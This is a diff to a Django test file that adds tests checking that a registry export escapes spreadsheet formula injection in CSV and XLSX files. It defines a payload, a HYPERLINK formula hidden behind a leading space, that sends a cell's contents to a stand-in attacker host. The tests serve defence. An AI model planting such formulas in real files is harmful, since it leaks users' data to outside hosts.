@@ -1,3 +1,7 @@
+import csv
+import io
+
+import openpyxl
 import pytest
 from django.core import mail
 from django.core.management import CommandError, call_command
@@ -201,6 +205,29 @@ def test_command_with_errors_does_not_create_the_organisation(tmp_path):
     with pytest.raises(CommandError):
         call_command("import_registry", str(path), "--org", "neworg", "--create-org", "Mới")
     assert not Organisation.objects.filter(code="neworg").exists()
+
+
+HYPERLINK = ' =HYPERLINK("http://attacker.example/?leak="&A1,"Xem")'
+
+
+def a_unit_named_with_a_formula_behind_a_space():
+    org = make_org()
+    make_membership(make_cluster(org), make_unit(org, code="U1", name=HYPERLINK), 2025)
+    return org
+
+
+def test_export_escapes_a_formula_behind_a_leading_space_in_csv():
+    org = a_unit_named_with_a_formula_behind_a_space()
+    content = registry_export(organisation=org, file_format="csv").decode("utf-8-sig")
+    cells = [c for row in csv.reader(io.StringIO(content)) for c in row]
+    assert "'" + HYPERLINK in cells
+
+
+def test_export_escapes_a_formula_behind_a_leading_space_in_xlsx():
+    org = a_unit_named_with_a_formula_behind_a_space()
+    content = registry_export(organisation=org, file_format="xlsx")
+    cells = [c for row in openpyxl.load_workbook(io.BytesIO(content)).active.values for c in row]
+    assert "'" + HYPERLINK in cells
 
 
 def test_export_command_writes_csv_for_one_year(tmp_path):
